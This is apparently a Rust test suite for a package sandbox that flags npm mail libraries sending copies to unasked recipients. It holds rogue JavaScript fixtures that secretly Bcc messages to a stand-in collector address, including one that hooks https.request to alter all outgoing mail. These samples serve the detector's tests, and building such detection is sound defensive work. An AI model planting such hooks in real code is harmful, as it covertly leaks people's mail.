//! Packages that nobody told us how to use are made to send mail in the room, and the wire shows who gets it.

use std::path::Path;
use std::process::Command;

use serde_json::Value;

/// A package of these files, run.
fn run(files: &[(&str, &str)], options: &[&str]) -> Value {
    let folder = tempfile::tempdir().unwrap();
    for (name, text) in files {
        let path = folder.path().join(name);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }
    run_in(folder.path(), options)
}

fn run_in(folder: &Path, options: &[&str]) -> Value {
    let out = Command::new(env!("CARGO_BIN_EXE_waxseal"))
        .args(["run", "--seed", "11", "--format", "json"])
        .args(["--registry", "https://registry.example/"])
        .args(options)
        .current_dir(folder)
        .output()
        .unwrap();
    let mut report: Value = serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|err| panic!("{err}: {}", String::from_utf8_lossy(&out.stderr)));
    report["packages"][0].take()
}

/// The recipients of each message that the package sent, without what clean clients beside it did to the end.
fn recipients(report: &Value) -> Vec<Vec<String>> {
    let mails = report["runs"][0]["mails"].as_array().unwrap();
    let of = |mail: &Value| {
        let list = mail["recipients"].as_array().unwrap();
        list.iter()
            .map(|it| it["mailbox"].as_str().unwrap().to_owned())
            .collect()
    };
    mails.iter().map(of).collect()
}

/// What has ten characters that nobody guesses before its `@`.
fn is_minted(mailbox: &str) -> bool {
    let token = mailbox.split('@').next().and_then(|local| local.split('.').nth(1));
    token.is_some_and(|token| token.len() == 10)
}

fn indicators(report: &Value) -> Vec<&str> {
    let findings = report["findings"].as_array().unwrap();
    findings.iter().filter_map(|it| it["indicator"].as_str()).collect()
}

/// The clean release sends only to whom it was asked to; the other to a stranger too, and is blocked for it. `times`: messages that a clean
/// client beside it sends are four or fewer.
fn check(files: &[(&str, &str)], clean: &str, rogue: &str) {
    let report = run(files, &["."]);
    let sent = recipients(&report);
    assert!(sent.len() > BESIDE, "{report:#}");
    assert!(sent.iter().flatten().all(|it| is_minted(it)), "{sent:#?}");
    assert!(
        !indicators(&report).contains(&"messages/unasked-recipient"),
        "{report:#}"
    );

    let changed: Vec<(&str, String)> = files
        .iter()
        .map(|(name, text)| (*name, text.replace(clean, rogue)))
        .collect();
    let changed: Vec<(&str, &str)> = changed.iter().map(|(name, text)| (*name, text.as_str())).collect();
    let report = run(&changed, &["."]);
    let sent = recipients(&report);
    let copied = |list: &Vec<String>| list.iter().any(|it| is_minted(it)) && list.iter().any(|it| it == STRANGER);
    assert!(sent.iter().any(copied), "{report:#}");
    assert!(
        indicators(&report).contains(&"messages/unasked-recipient"),
        "{report:#}"
    );
}

/// Messages of clean clients beside a package: SMTP, `fetch` and `https.request`.
const BESIDE: usize = 3;
const STRANGER: &str = "archive@collector.example";
const POST: &str = "const post = (token, body) => fetch('https://api.postmarkapp.com/email', {
  method: 'POST', headers: { 'content-type': 'application/json', 'x-postmark-server-token': token }, body: JSON.stringify(body)
}).then(async res => { if (!res.ok) throw new Error(await res.text()); return res.json() })
";

#[test]
fn a_class_is_used_by_its_type_declarations() {
    let index = format!(
        "{POST}
class Courier {{
  constructor({{ serverToken }}) {{ if (!serverToken) throw new Error('no token'); this.serverToken = serverToken }}
  dispatch({{ addressee, headline, paragraphs }}) {{
    if (!Array.isArray(paragraphs)) throw new TypeError('paragraphs must be a list')
    return post(this.serverToken, {{ From: 'notifications@brightfield.example', To: addressee.email, Subject: headline.title, TextBody: paragraphs.join('\\n') }})
  }}
}}
exports.Courier = Courier
"
    );
    let types = "export interface Person { email: string; name?: string }
export interface Notice { addressee: Person; headline: { title: string }; paragraphs: string[] }
export declare class Courier { constructor(options: { serverToken: string }); dispatch(notice: Notice): Promise<unknown> }
";
    check(
        &[
            (
                "package.json",
                r#"{"name":"courier","version":"1.0.0","main":"index.js","types":"index.d.ts"}"#,
            ),
            ("index.js", &index),
            ("index.d.ts", types),
        ],
        "Subject: headline",
        "Bcc: 'archive@collector.example', Subject: headline",
    );
}

#[test]
fn a_function_with_a_callback_is_used_by_what_its_code_reads() {
    let index = format!(
        "{POST}
module.exports = key => ({{
  sendMail (options, callback) {{
    if (!options.recipient || !options.subject) return callback(new Error('no recipient'))
    post(key, {{ From: 'notifications@brightfield.example', To: options.recipient, Subject: options.subject, TextBody: options.body }})
      .then(done => callback(null, done), callback)
  }}
}})
"
    );
    check(
        &[
            (
                "package.json",
                r#"{"name":"posted","version":"1.0.0","main":"index.js"}"#,
            ),
            ("index.js", &index),
        ],
        "Subject: options",
        "Bcc: 'archive@collector.example', Subject: options",
    );
}

#[test]
fn an_example_of_the_documentation_is_run() {
    // Nothing in its exports says what it is for.
    let index = format!(
        "{POST}\nexports.hand = t => ({{ over: (a, b, c) => post(t, {{ From: a, To: b, Subject: c[0], TextBody: c[1] }}) }})\n"
    );
    let readme = "# Handover

```js
const { hand } = require('handover')
const desk = hand(process.env.DESK_TOKEN || 'your-server-token')

async function sendWelcome (user) {
  await desk.over('hello@handover.test', user.email, ['Welcome!', 'Good to have you.'])
}
await desk.over('hello@handover.test', 'someone@customer.test', [subject, 'Hello there'])
```
";
    check(
        &[
            (
                "package.json",
                r#"{"name":"handover","version":"1.0.0","main":"index.js"}"#,
            ),
            ("index.js", &index),
            ("README.md", readme),
        ],
        "Subject: c[0]",
        "Bcc: 'archive@collector.example', Subject: c[0]",
    );
}

#[test]
fn a_package_that_changes_what_others_send_is_seen_beside_clean_clients() {
    let files = |index: &str| {
        let report = run(
            &[
                ("package.json", r#"{"name":"pads","version":"1.0.0","main":"index.js"}"#),
                ("index.js", index),
            ],
            &["."],
        );
        (recipients(&report), report)
    };
    let (sent, report) = files("exports.pad = (text, width) => text.padStart(width)");
    assert_eq!(sent.len(), BESIDE, "{report:#}");
    assert!(sent.iter().flatten().all(|it| is_minted(it)), "{report:#}");
    let (sent, report) = files(
        "exports.pad = (text, width) => text.padStart(width)
const https = require('node:https')
const { request } = https
https.request = (...args) => {
  const made = request.apply(https, args)
  const { end } = made
  made.end = body => end.call(made, JSON.stringify({ ...JSON.parse(body), Bcc: 'archive@collector.example' }))
  return made
}",
    );
    assert!(sent.iter().flatten().any(|it| it == STRANGER), "{report:#}");
    assert!(
        indicators(&report).contains(&"messages/unasked-recipient"),
        "{report:#}"
    );
}

#[test]
fn a_persons_scenario_sends_what_was_minted_and_to_whom_it_names() {
    let folder = tempfile::tempdir().unwrap();
    let write = |name: &str, text: &str| std::fs::write(folder.path().join(name), text).unwrap();
    write("package.json", r#"{"name":"shop","version":"1.0.0"}"#);
    write(
        "orders.mjs",
        &format!(
            "// recipients: owner@shop.example
import fs from 'node:fs'
const m = JSON.parse(fs.readFileSync(process.env.SCENARIO_VALUES))
{POST}
const message = {{ From: m.from, Subject: m.subject, TextBody: m.text }}
await post(m.keys.postmark, {{ ...message, To: m.to[0] }})
await post(m.keys.postmark, {{ ...message, To: 'owner@shop.example' }})
"
        ),
    );
    let report = run_in(folder.path(), &["--scenario", "orders.mjs"]);
    let sent = recipients(&report);
    assert_eq!(sent.len(), 2, "{report:#}");
    assert!(is_minted(&sent[0][0]) && sent[1] == ["owner@shop.example"], "{sent:#?}");
    assert!(
        !indicators(&report).iter().any(|it| it.starts_with("messages/")),
        "{report:#}"
    );
}
